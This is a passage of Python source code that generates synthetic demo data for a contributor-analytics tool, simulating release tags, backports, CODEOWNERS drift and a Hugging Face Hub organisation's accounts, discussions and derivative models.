            named,
            head,
            hub,
        )

    def _stewardship(self, activities: list[Activity], rng: random.Random) -> list[Activity]:
        """Release tags and backports, as a mined history shows them: about every quarter
        one of the repository's maintainers active then tags a release, and backports up
        to three of the quarter's fixes by others to its release branch."""
        humans = {
            i.key for p in self.people if not p.is_bot for i in [p.account, *p.git_identities]
        }
        fixes: dict[str, list[Activity]] = {}
        for act in activities:
            if act.kind == ActivityKind.COMMIT and act.actor in humans:
                fixes.setdefault(act.repo, []).append(act)
        out: list[Activity] = []
        for repo in sorted(self.maintainers):
            core = [p for p in self.maintainers[repo] if not p.is_bot and p.git_identities]
            when, n = START + timedelta(days=120), 0
            while core and when <= END - timedelta(days=2):
                active = [p for p in core if self._active_in(p, when)]
                if active:
                    n += 1
                    who = rng.choice(active)
                    mine = {i.key for i in who.git_identities}
                    tagger = who.git_identities[0].key
                    tag = f"v0.{n}.0"
                    out.append(Activity(
                        key=f"{ActivityKind.RELEASE_TAGGED}:{repo}:{tag}", repo=repo,
                        kind=ActivityKind.RELEASE_TAGGED, actor=tagger, occurred_at=when,
                        item=tag, title=f"Release {tag}", state="release",
                        url=f"https://github.com/{repo}/releases/tag/{tag}",
                    ))  # fmt: skip
                    quarter = [
                        a
                        for a in fixes.get(repo, [])
                        if when - timedelta(days=91) <= a.occurred_at < when and a.actor not in mine
                    ]
                    for fix in rng.sample(quarter, k=min(len(quarter), rng.randint(0, 3))):
                        sha = hashlib.sha1(f"backport:{fix.key}".encode()).hexdigest()
                        out.append(Activity(
                            key=f"{ActivityKind.BACKPORT}:{repo}:{sha}", repo=repo,
                            kind=ActivityKind.BACKPORT, actor=tagger,
                            occurred_at=when + timedelta(days=1), counterpart=fix.actor,
                            item=sha, title=f"[release-0.{n}] {fix.title}", state="cherry-pick",
                            url=f"https://github.com/{repo}/commit/{sha}",
                        ))  # fmt: skip
                when += timedelta(days=91)
        return out

    def _owner_files(self, activities: list[Activity]) -> tuple[dict, dict]:
        """Each repository's CODEOWNERS over time, as a real one drifts: its first
        maintainer owns everything, each area has a maintainer, one area also names a
        team nobody can expand and someone who has long stopped working there, and one
        owner was taken off the file a year ago. Deterministic: no random draws."""
        last_act: dict[str, datetime] = {}
        for act in activities:
            last_act[act.actor] = act.occurred_at
        named: dict[str, list[dict]] = {}
        for repo in self.areas:
            core = [p for p in self.maintainers[repo] if not p.is_bot]
            if not core:
                continue
            dirs = sorted({path.split("/", 1)[0] for path in self.files[repo]})
            since = START + timedelta(days=30)
            rows = [_owner_row(core[0].login, "*", 1, since)]
            for i, folder in enumerate(dirs):
                owner = core[(i + 1) % len(core)]
                rows.append(_owner_row(owner.login, f"/{folder}/", i + 2, since))
            quiet = [
                p
                for p in self.people
                if repo in p.repos and not p.is_bot and p.end < END - timedelta(days=500)
            ]
            first = f"/{dirs[0]}/"
            if quiet:
                rows.append(_owner_row(quiet[0].login, first, 2, since))
            rows.append(_owner_row(f"{ORG}/{repo.split('/')[1]}-reviewers", first, 2, since))
            if len(core) > 1:
                gone = _owner_row(core[-1].login, "*", 1, since)
                gone["until"] = END - timedelta(days=365)
                rows.append(gone)
            named[repo] = rows
        return named, {repo: sorted(paths) for repo, paths in self.files.items()}


# --- the Hugging Face Hub ----------------------------------------------------------------

# (model name, what it is): the company's models on the Hub, released in the world's last
# eighteen months; a dataset and a Space beside them.
HUB_MODELS = [
    ("vision-foundation-7b", "vision foundation model"),
    ("med-llm-8b-instruct", "medical LLM"),
    ("speech-asr-large", "speech recognition model"),
]
HUB_DATASET = "med-instructions"
HUB_SPACE = "vision-foundation-demo"
HUB_START = END - timedelta(days=540)
HUB_WEB = "https://huggingface.co"
HUB_QUESTIONS = [
    "How much VRAM does inference need?",
    "Chat template for multi-turn prompts?",
    "Fine-tuning recipe for a new language",
    "GGUF conversion fails",
    "License question for commercial use",
    "Results differ from the paper on the eval set",
    "Add safetensors weights",
    "Tokenizer config is missing a special token",
]
HUB_PR_TITLES = [
    "Fix typo in README",
    "Add evaluation results to the model card",
    "Update generation_config.json",
    "Add example for batched inference",
    "Add library_name to metadata",
]
DERIVATIVE_SUFFIXES = {
    "finetune": ["-legal", "-radiology", "-de", "-ja", "-code", "-finance"],
    "quantized": ["-GGUF", "-AWQ", "-GPTQ-4bit", "-8bit"],
    "adapter": ["-lora-chat", "-lora-med", "-qlora-sft"],
    "merge": ["-merge-slerp", "-ties-merge"],
}


class _HubGenerator:
    """The demo org's Hub world, drawn from the people of the git and GitHub world."""

    def __init__(self, rng: random.Random, people: list[DemoPerson]):
        self.rng = rng
        self.first_builder = len(people)  # builders' indices follow the world's people
        self.people = [p for p in people if not p.is_bot]
        self.accounts: dict[int, Identity] = {}  # person index -> Hub account
        self.builders: list[Identity] = []  # people known only on the Hub
        self.activities: list[Activity] = []
        self.derived: set[str] = set()
        self.span = (END - HUB_START).total_seconds()

    def _time(self, lo: float = 0.0, hi: float = 1.0) -> datetime:
        return HUB_START + timedelta(seconds=self.span * self.rng.uniform(lo, hi))

    def _accounts(self) -> None:
        for person in self.people:
            roll = self.rng.random()
            if person.archetype == "employee_core" or (
                person.archetype == "employee" and roll < 0.5
            ):
                login = person.login  # the same login as on GitHub: suggested, not merged
            elif person.archetype in ("community_core", "rising", "community") and roll < 0.3:
                # Most use their GitHub login; some another name, which nothing can link.
                login = person.login if roll < 0.2 else f"{person.login}-ml"
            else:
                continue
            self.accounts[person.index] = Identity(
                IdentitySource.HF, name=person.name, login=login, type="User"
            )
        taken = {i.login for i in self.accounts.values()}
        for n in range(max(8, len(self.people) // 12)):
            name = f"{self.rng.choice(FIRST)} {self.rng.choice(LAST)}"
            login = _slug(name).replace("-", "") or f"builder{n}"
            if self.rng.random() < 0.4:
                login = f"{login[:6]}{self.rng.randint(2, 99)}"
            while login in taken:
                login += str(self.rng.randint(0, 9))
            taken.add(login)
            self.builders.append(Identity(IdentitySource.HF, name=name, login=login, type="User"))

    def build(self) -> DemoHub:
        self._accounts()
        staff = [
            self.accounts[p.index] for p in self.people if p.employee and p.index in self.accounts
        ]
        community = [
            self.accounts[p.index]
            for p in self.people
            if not p.employee and p.index in self.accounts
        ]
        repos = [
            ("model", f"{ORG}/{name}", f"Hugging Face model: {what}") for name, what in HUB_MODELS
        ]
        repos += [
            ("dataset", f"{ORG}/{HUB_DATASET}", "Hugging Face dataset"),
            ("space", f"{ORG}/{HUB_SPACE}", "Hugging Face Space"),
        ]
        hub_repos = []
        for repo_type, repo_id, description in repos:
            name = hub_repo_name(repo_type, repo_id)
            page = f"{HUB_WEB}/{name.removeprefix('hf.co/')}"
            hub_repos.append(Repo(name, Origin.HF, description, page, "main"))
            self._commits(name, page, staff, community)
            self._discussions(name, page, staff, community + self.builders, repo_type == "model")
        for repo_type, repo_id, _ in repos:
            if repo_type == "model":
                self._derivatives(repo_id, community)
        used = {a.actor for a in self.activities} | {
            a.counterpart for a in self.activities if a.counterpart
        }
        identities = [i for i in [*self.accounts.values(), *self.builders] if i.key in used]
        people = {i.key: index for index, i in self.accounts.items() if i.key in used}
        people.update(
            {b.key: self.first_builder + n for n, b in enumerate(self.builders) if b.key in used}
        )
        return DemoHub(
            hub_repos,
            identities,
            sorted(self.activities, key=lambda a: (a.occurred_at, a.key)),
            sorted({i.key for i in staff}),
            people,
        )

    def _sha(self, *parts: object) -> str:
        return hashlib.sha1("/".join(map(str, parts)).encode()).hexdigest()

    def _commits(self, repo: str, page: str, staff: list[Identity], others: list[Identity]):
        for n in range(self.rng.randint(8, 25)):
            author = (
                self.rng.choice(staff)
                if self.rng.random() < 0.9 or not others
                else (self.rng.choice(others))
            )
            sha = self._sha(repo, "commit", n)
            title = self.rng.choice(
                ["Upload folder using huggingface_hub", "Update README.md", "Upload model",
                 "Update config.json", "Add tokenizer files"]
            )  # fmt: skip
            self.activities.append(
                Activity(f"hf:{repo}@{sha}", repo, ActivityKind.COMMIT, author.key,
                         self._time(), item=sha, title=title, url=f"{page}/commit/{sha}")
            )  # fmt: skip

    def _discussions(
        self, repo: str, page: str, staff: list[Identity], others: list[Identity], busy: bool
    ) -> None:
        for num in range(1, (self.rng.randint(15, 30) if busy else self.rng.randint(3, 8)) + 1):
            is_pr = self.rng.random() < 0.3
            opener = self.rng.choice(others)
            opened = self._time(0.0, 0.95)
            ref = f"{repo}#{num}"
            url = f"{page}/discussions/{num}"
            title = self.rng.choice(HUB_PR_TITLES if is_pr else HUB_QUESTIONS)
            merged = is_pr and self.rng.random() < 0.6
            closed = not merged and self.rng.random() < 0.4
            status = "merged" if merged else "closed" if closed else "open"
            kind = ActivityKind.PR_OPENED if is_pr else ActivityKind.ISSUE_OPENED
            self.activities.append(
                Activity(f"hf:{ref}:opened", repo, kind, opener.key, opened, item=ref,
                         title=title, url=url, state=status, pr_number=num if is_pr else None,
                         size=1 if is_pr else None)
            )  # fmt: skip
            when = opened
            for event in range(self.rng.randint(0, 4)):
                when = min(END, when + timedelta(hours=self.rng.uniform(1, 200)))
                who = self.rng.choice(staff) if self.rng.random() < 0.5 else self.rng.choice(others)
                self.activities.append(
                    Activity(f"hf:{ref}:c{event}", repo, ActivityKind.ISSUE_COMMENT, who.key,
                             when, counterpart=opener.key, item=ref, title=title, url=url)
                )  # fmt: skip
            if merged or closed:
                when = min(END, when + timedelta(hours=self.rng.uniform(1, 100)))
                by = self.rng.choice(staff)
                if merged:
                    self.activities.append(
                        Activity(f"hf:{ref}:s:merged", repo, ActivityKind.PR_MERGED, opener.key,
                                 when, item=ref, title=title, url=url, pr_number=num)
                    )  # fmt: skip
                    self.activities.append(
                        Activity(f"hf:{ref}:s", repo, ActivityKind.PR_MERGED_BY, by.key, when,
                                 counterpart=opener.key, item=ref, title=title, url=url,
                                 pr_number=num)
                    )  # fmt: skip
                elif by.key != opener.key:
                    self.activities.append(
                        Activity(f"hf:{ref}:s", repo, ActivityKind.ISSUE_CLOSED_BY, by.key, when,
                                 counterpart=opener.key, item=ref, title=title, url=url)
                    )  # fmt: skip

    def _derivatives(self, base: str, community: list[Identity]) -> None:
        """Builders make one to four models on ``base`` each, a few community members
        one; downloads are heavy-tailed, as on the Hub."""
        makers = [b for b in self.builders if self.rng.random() < 0.7]
        makers += [c for c in community if self.rng.random() < 0.25]
        repo = hub_repo_name("model", base)
        stem = base.split("/", 1)[1]
        for maker in makers:
            for _ in range(1 + int(self.rng.random() < 0.4) + int(self.rng.random() < 0.2)):
                relation = self.rng.choice(RELATIONS)
                model_id = f"{maker.login}/{stem}{self.rng.choice(DERIVATIVE_SUFFIXES[relation])}"
                if model_id in self.derived:
                    continue
                self.derived.add(model_id)
                when = self._time(0.05, 1.0)
                derived = hub_repo_name("model", model_id)
                downloads = int(math.exp(self.rng.gauss(5.5, 2.2)))
                likes = int(downloads**0.5 * self.rng.random() / 3)
                self.activities.append(
                    Activity(f"hf:derivative:{model_id}->{base}", repo, ActivityKind.DERIVATIVE,
                             maker.key, when, item=derived,
                             size=downloads, title=f"{model_id} ({relation}; {downloads:,} "
                             f"downloads, {likes} likes)", url=f"{HUB_WEB}/{model_id}",
                             state=relation)
                )  # fmt: skip
